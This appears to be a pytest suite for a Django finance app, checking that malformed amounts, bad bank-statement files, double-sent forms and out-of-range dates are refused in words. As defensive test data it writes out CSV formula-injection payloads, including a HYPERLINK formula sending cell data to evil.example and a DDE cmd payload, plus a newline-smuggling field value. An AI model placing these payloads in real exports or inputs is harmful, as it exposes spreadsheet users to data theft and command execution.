"""Bad input to the open books: odd addresses, hostile form posts and malformed uploads are
answered in words (404, 400, 403 or the form again with the problem named), never a server
error, never another unit's unpublished books, and nothing already stored is lost."""

from __future__ import annotations

import csv
import datetime as dt
import io
import re
from typing import Any
from unittest import mock

import pytest
from django.test import Client
from django.utils import timezone

from grassroots.finance.actions._common import BooksRefused
from grassroots.finance.bank.camt import read_camt053
from grassroots.finance.bank.csvfile import read_csv
from grassroots.finance.bank.ofx import read_ofx
from grassroots.finance.models import Payment, Remittance, Spend
from grassroots.site import once
from grassroots.site.models import SentForm
from tests.finance.test_bank import COLUMNS, DATA
from tests.web.conftest import PASSWORD

pytestmark = pytest.mark.django_db
HUGE = "9" * 30


def login(who: str | None) -> Client:
    c = Client(raise_request_exception=False)
    if who:
        assert c.login(username=who, password=PASSWORD)
    return c


def hill(path: str = "") -> str:
    return f"/finance/units/hillford/books/{path}"


AMOUNTS = [
    ("1e30", "too large"),
    ("1" + "0" * 19, "too large"),
    ("1e400", "too large"),
    ("-1E+29", "too large"),
    ("12.345", "decimal places"),
    ("abc", "not an amount"),
    ("NaN", "not an amount"),
    ("Infinity", "not an amount"),
]


@pytest.mark.parametrize(("amount", "problem"), AMOUNTS)
def test_a_spend_of_a_malformed_or_enormous_amount_is_refused_in_words_and_nothing_stored(
    books: Any, amount: str, problem: str
) -> None:
    from grassroots.finance.models import Spend

    r = login("treasurer").post(
        hill("spends/new/"),
        {"payee": "Printers", "amount": amount, "purpose": "Leaflets",
         "budget_line": books.leaflets.pk},
    )  # fmt: skip
    assert r.status_code == 200
    assert problem in r.content.decode()
    assert not Spend.objects.exists()


@pytest.mark.parametrize(("amount", "problem"), AMOUNTS)
def test_a_budget_line_of_a_malformed_or_enormous_amount_is_refused_in_words(
    books: Any, amount: str, problem: str
) -> None:
    from grassroots.finance.models import Budget, BudgetLine

    r = login("treasurer").post(
        hill("budgets/2026/"), {"lines": "1", f"line{books.leaflets.pk}": amount}
    )
    assert r.status_code == 200
    assert problem in r.content.decode()
    assert not BudgetLine.objects.exists() and not Budget.objects.exists()


@pytest.mark.parametrize(("amount", "problem"), AMOUNTS)
def test_a_spending_threshold_of_a_malformed_or_enormous_amount_is_refused_and_the_old_kept(
    books: Any, amount: str, problem: str
) -> None:
    from grassroots.finance.models import Books

    r = login("treasurer").post(hill("settings/"), {"threshold": amount})
    assert r.status_code == 200
    assert problem in r.content.decode()
    assert Books.objects.get(unit=books.org.hillford).threshold == 500


# the statement readers, each given files it should refuse in words, or read

CSV = (DATA / "hillford-jan.csv").read_bytes()
OFX = (DATA / "hillford-jan.ofx").read_bytes()
CAMT = (DATA / "hillford-jan.camt053.xml").read_bytes()
TEXT = CSV.decode("utf-8-sig")


def read(fmt: str, data: bytes) -> Any:
    if fmt == "csv":
        return read_csv(data, COLUMNS, "GBP")
    return read_ofx(data, "GBP") if fmt == "ofx" else read_camt053(data, "GBP")


@pytest.mark.parametrize(
    ("fmt", "data", "problem"),
    [
        *[(f, b"", "the file: it is empty") for f in ("csv", "ofx", "camt053")],
        *[(f, b" \r\n\n", "the file: it is empty") for f in ("csv", "ofx", "camt053")],
        ("csv", bytes(range(256)) * 8, "the file: it is not a text file"),
        ("ofx", bytes(range(256)) * 8, "the file: it is not an OFX statement"),
        ("camt053", bytes(range(256)) * 8, "line 1: not well-formed XML"),
        ("csv", OFX, "row 1: no column 'Date', 'Description', 'Payee', 'Paid in', 'Paid out'"),
        ("csv", CAMT, "row 1: no column 'Date'"),
        ("ofx", CSV, "the file: it is not an OFX statement"),
        ("ofx", CAMT, "the file: it is not an OFX statement"),
        ("camt053", CSV, "line 1: not well-formed XML"),
        ("camt053", OFX, "line 1: not well-formed XML"),
        ("csv", TEXT.encode("utf-16-le"), "the file: it is not a text file (if it is UTF-16"),
        ("csv", b"Date,Description," + b"x" * 200_000 + b"\n", "row 1: there is no heading row"),
        (
            "csv",
            CSV + b"03/01/2026," + b"y" * 200_000 + b",,1.00,,\n",
            "row 8: unreadable CSV (field larger than field limit",
        ),
        (
            "csv",
            b",".join(b"c%d" % i for i in range(50_000)) + b"\n",
            "row 1: no column 'Date'",
        ),
        (
            "csv",
            b"Date,Description,Payee,Paid in,Paid out\n02/01/2026,Gift,A," + b"9" * 40 + b",\n",
            "row 2: " + "9" * 40 + " GBP is too large for the books",
        ),
        (
            "ofx",
            OFX.replace(b"<TRNAMT>1120.00", b"<TRNAMT>twelve", 1),
            "line 16: TRNAMT 'twelve' is not an amount of money",
        ),
        (
            "ofx",
            OFX.replace(b"<TRNAMT>1120.00", b"<TRNAMT>" + b"9" * 40, 1),
            "line 16: TRNAMT: " + "9" * 40 + " GBP is too large for the books",
        ),
    ],
)
def test_a_file_a_statement_reader_cannot_read_is_named_with_its_problem(
    fmt: str, data: bytes, problem: str
) -> None:
    parsed = read(fmt, data)
    assert any(str(p).startswith(problem) for p in parsed.problems), parsed.problems


@pytest.mark.parametrize(
    "data",
    [
        TEXT.encode("utf-16"),  # with its byte-order mark, as Excel saves "Unicode text"
        TEXT.encode("utf-16-be").join([b"\xfe\xff", b""]),
        TEXT.encode("utf-8-sig"),
        TEXT.encode("utf-8"),
        TEXT.encode("cp1252"),
    ],
    ids=["utf-16", "utf-16-be", "utf-8-bom", "utf-8", "windows-1252"],
)
def test_a_csv_statement_in_any_common_encoding_reads_the_same(data: bytes) -> None:
    assert read("csv", data).lines == read("csv", CSV).lines != []


def test_a_doubled_quote_in_a_csv_statement_reads_as_one_quote_mark_in_its_own_column() -> None:
    data = (
        b"Date,Description,Payee,Paid in,Paid out\n"
        b'02/01/2026,"Hall ""Main"" deposit, returnable",Town hall,,50.00\n'
    )
    parsed = read("csv", data)
    assert parsed.problems == []
    line = parsed.lines[0]
    assert (line.description, line.payee) == ('Hall "Main" deposit, returnable', "Town hall")
    assert line.amount == -50


def test_a_latin_1_description_in_a_csv_statement_is_read_not_refused() -> None:
    data = "Date,Description,Payee,Paid in,Paid out\n02/01/2026,Café fund,Zoë,10.00,\n"
    line = read("csv", data.encode("latin-1")).lines[0]
    assert (line.description, line.payee) == ("Café fund", "Zoë")


# the accounts' CSV download, opened in a spreadsheet

FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(1,1)",
]


def test_a_bank_line_written_as_a_formula_reaches_the_accounts_csv_as_words_not_a_formula(
    books: Any,
) -> None:
    from grassroots.finance.actions import accounts, bank
    from grassroots.finance.models import BankLine

    t = books.org.users["treasurer"]
    mapping = bank.save_mapping(books.org.hillford, bank="Co-op", by=t, columns=COLUMNS)
    out = io.StringIO()
    w = csv.writer(out)
    w.writerow(["Date", "Description", "Payee", "Paid in", "Paid out"])
    for i, f in enumerate(FORMULAS):
        w.writerow([f"0{i + 1}/02/2025", f, f, f"1{i}.00", ""])
    data = out.getvalue().encode()
    st, report = bank.check_statement(
        books.bank, format="csv", filename="f.csv", data=data, mapping=mapping, by=t
    )
    assert not report.problems
    bank.confirm_statement(st, sha256=st.sha256, by=t)
    for line in BankLine.objects.all():
        bank.reconcile_line(line, account=books.donations, by=t)
    acc = accounts.prepare_accounts(
        books.org.hillford, start=dt.date(2025, 1, 1), end=dt.date(2025, 12, 31), by=t
    )
    r = login("treasurer").get(hill(f"accounts/{acc.pk}/accounts.csv"))
    assert r.status_code == 200
    cells = [c for row in csv.reader(io.StringIO(r.content.decode())) for c in row]
    for f in FORMULAS:
        assert f not in cells  # as it came, a spreadsheet would run it
        assert cells.count("'" + f) == 2  # the description and the payee, shown as written
    assert "60.00" in cells and "'60.00" not in cells  # the amounts stay numbers


# a form sent twice (a double click, or the back button and send again) records once


def form_token(page: str) -> str:
    found = re.search(r'name="once" value="([^"]+)"', page)
    assert found, "the form carries its one-time token"
    return found[1]


ONE_TIME_FORMS = pytest.mark.parametrize(
    ("who", "address", "data", "count"),
    [
        (
            "treasurer",
            hill("spends/new/"),
            {"payee": "Printers", "amount": "40", "purpose": "Leaflets", "budget_line": "LEAFLETS"},
            lambda: Spend.objects.count(),
        ),
        (
            "admin",
            "/finance/members/M1/payments/new/",
            {"paid_on": "01/03/2025", "amount": "4.38"},
            lambda: Payment.objects.count(),
        ),
        (
            "admin",
            "/finance/units/national/remittances/new/",
            {"unit": "hillford", "period": "PERIOD", "paid_on": "TODAY", "amount": "12.50"},
            lambda: Remittance.objects.count(),
        ),
    ],
    ids=["spend", "payment", "remittance"],
)


def _form_data(books: Any, data: dict[str, str]) -> dict[str, str]:
    """``data`` with its placeholders filled, under a subscription rule payments split by."""
    from grassroots.finance.actions.subscriptions import create_rule
    from tests.finance.subscriptions.conftest import CITED

    create_rule(effective_from=dt.date(2025, 1, 1), bands=CITED, reason="cited", by=None)
    today = timezone.localdate()
    return {
        k: {
            "LEAFLETS": str(books.leaflets.pk),
            "PERIOD": today.replace(day=1).isoformat(),
            "TODAY": today.strftime("%d/%m/%Y"),
        }.get(v, v)
        for k, v in data.items()
    }


@ONE_TIME_FORMS
def test_a_form_sent_twice_records_once_and_the_second_sending_is_told_so(
    books: Any, who: str, address: str, data: dict[str, str], count: Any
) -> None:
    data = _form_data(books, data)
    c = login(who)
    data["once"] = form_token(c.get(address).content.decode())
    first = c.post(address, data)
    assert first.status_code == 302 and count() == 1
    again = c.post(address, data)
    assert again.status_code == 200
    assert "This form was already sent" in again.content.decode()
    assert count() == 1
    fresh = form_token(again.content.decode())  # the form shown again may be sent once more
    assert c.post(address, {**data, "once": fresh}).status_code == 302 and count() == 2


@ONE_TIME_FORMS
def test_a_second_sending_that_read_the_session_before_the_first_saved_it_still_records_once(
    books: Any, who: str, address: str, data: dict[str, str], count: Any
) -> None:
    """Two sendings at the same instant both find the token in the session: the second must
    be refused by the spent token stored with the first's record, not by the session."""
    data = _form_data(books, data)
    c = login(who)
    data["once"] = form_token(c.get(address).content.decode())
    assert c.post(address, data).status_code == 302 and count() == 1
    session = c.session  # as the second request read it: the token not yet spent
    session[once.KEY] = [*session.get(once.KEY, []), data["once"]]
    session.save()
    again = c.post(address, data)
    assert again.status_code == 200
    assert "This form was already sent" in again.content.decode()
    assert count() == 1


def test_a_refused_action_leaves_its_form_free_to_be_sent_again(books: Any) -> None:
    """The token is spent with the record, in one transaction: a refusal spends nothing."""
    c = login("treasurer")
    address = hill("spends/new/")
    data = {"payee": "Printers", "amount": "40", "purpose": "Leaflets"}
    data["budget_line"] = str(books.leaflets.pk)
    data["once"] = form_token(c.get(address).content.decode())
    books_of_hillford = books.leaflets.unit
    with mock.patch(
        "grassroots.finance.actions.spending.propose_spend",
        side_effect=BooksRefused("the books are shut"),
    ):
        refused = c.post(address, data)
    assert refused.status_code == 200 and "the books are shut" in refused.content.decode()
    assert not SentForm.objects.filter(token=data["once"]).exists()
    assert c.post(address, data).status_code == 302
    assert Spend.objects.filter(unit=books_of_hillford).count() == 1
    assert SentForm.objects.filter(token=data["once"]).exists()


@pytest.mark.parametrize(
    ("start", "end"), [("01/01/0001", "31/12/2025"), ("01/01/2025", "31/12/9999")]
)
def test_accounts_for_a_period_in_year_1_or_9999_are_refused_in_words_not_a_server_error(
    books: Any, start: str, end: str
) -> None:
    from grassroots.finance.models import PublishedAccounts

    r = login("treasurer").post(hill("accounts/new/"), {"start": start, "end": end})
    assert r.status_code == 200
    assert "is outside the years the books keep (1900 to 2100)" in r.content.decode()
    assert not PublishedAccounts.objects.exists()


def test_accounts_for_a_period_that_ends_before_it_starts_are_refused_with_the_form_kept(
    books: Any,
) -> None:
    from grassroots.finance.models import PublishedAccounts

    r = login("treasurer").post(hill("accounts/new/"), {"start": "31/12/2025", "end": "01/01/2025"})
    page = r.content.decode()
    assert r.status_code == 200
    assert "the period starts on 31 December 2025, after it ends on 1 January 2025" in page
    assert 'value="31/12/2025"' in page and 'value="01/01/2025"' in page
    assert not PublishedAccounts.objects.exists()


@pytest.mark.parametrize(
    ("data", "problem"),
    [
        (
            b'number,date,amount\nM1,2025-03-01,4.38\nM1,2025-04-01,"' + b"x" * 200_000 + b'"\n',
            (3, "this row cannot be read as CSV (field larger than field limit"),
        ),
        (b'"' + b"n" * 200_000 + b'",date,amount\n', (1, "the header cannot be read as CSV")),
        (
            b"id,Created date (UTC),Amount,Currency,Status,Customer Email,Description\n"
            b'ch_1,2025-03-01 10:00,4.38,gbp,Paid,ann@example.org,"' + b"x" * 200_000 + b'"\n',
            (2, "this row cannot be read as CSV (field larger than field limit"),
        ),
    ],
    ids=["a-row", "the-header", "a-processor-export-row"],
)
def test_a_payments_file_with_a_value_over_the_csv_field_limit_is_refused_naming_the_row(
    books: Any, data: bytes, problem: tuple[int, str]
) -> None:
    from django.core.files.uploadedfile import SimpleUploadedFile

    from grassroots.finance.actions.subscriptions import create_rule
    from tests.finance.subscriptions.conftest import CITED

    create_rule(effective_from=dt.date(2025, 1, 1), bands=CITED, reason="cited", by=None)
    r = login("admin").post(
        "/finance/units/hillford/payments/import/",
        {"file": SimpleUploadedFile("payments.csv", data)},
    )
    page = r.content.decode()
    assert r.status_code == 200
    assert f'<td class="num" data-label="Row">{problem[0]}</td>' in page and problem[1] in page
    assert not Payment.objects.exists()


@pytest.mark.parametrize("day", ["01/01/0001", "31/12/1899"])
def test_a_spend_paid_on_a_date_outside_the_books_years_is_refused_and_stays_approved(
    books: Any, day: str
) -> None:
    from grassroots.finance.models import Transaction
    from tests.finance.test_dates_paid import approved_spend

    s = approved_spend(books)
    r = login("treasurer").post(
        hill(f"spends/{s.pk}/"), {"pay": "1", "bank": str(books.bank.pk), "date": day}
    )
    assert r.status_code == 200
    assert f"{day} is outside the years the books keep (1900 to 2100)" in r.content.decode()
    s.refresh_from_db()
    assert s.state == "approved" and not Transaction.objects.exists()


@pytest.mark.parametrize(
    ("address", "data", "problem"),
    [
        (
            "settings/",
            {"code": "gifts", "name": "Gifts\nX-Evil: 1", "category": "income"},
            "the account name contains",
        ),
        (
            "spends/new/",
            {"payee": "Printers\r\nLtd", "amount": "40", "purpose": "Leaflets"},
            "the payee contains",
        ),
        (
            "spends/new/",
            {"payee": "Printers", "amount": "40", "purpose": "Leaf\x0blets"},
            "the purpose contains",
        ),
    ],
)
def test_a_name_payee_or_purpose_of_more_than_one_line_is_refused_and_nothing_stored(
    books: Any, address: str, data: dict[str, str], problem: str
) -> None:
    from grassroots.finance.models import Account

    accounts = Account.objects.count()
    data = {**data, "budget_line": str(books.leaflets.pk)}
    r = login("treasurer").post(hill(address), data)
    page = r.content.decode()
    assert r.status_code == 200
    assert problem in page and "it must be one line of text" in page
    assert Account.objects.count() == accounts and not Spend.objects.exists()
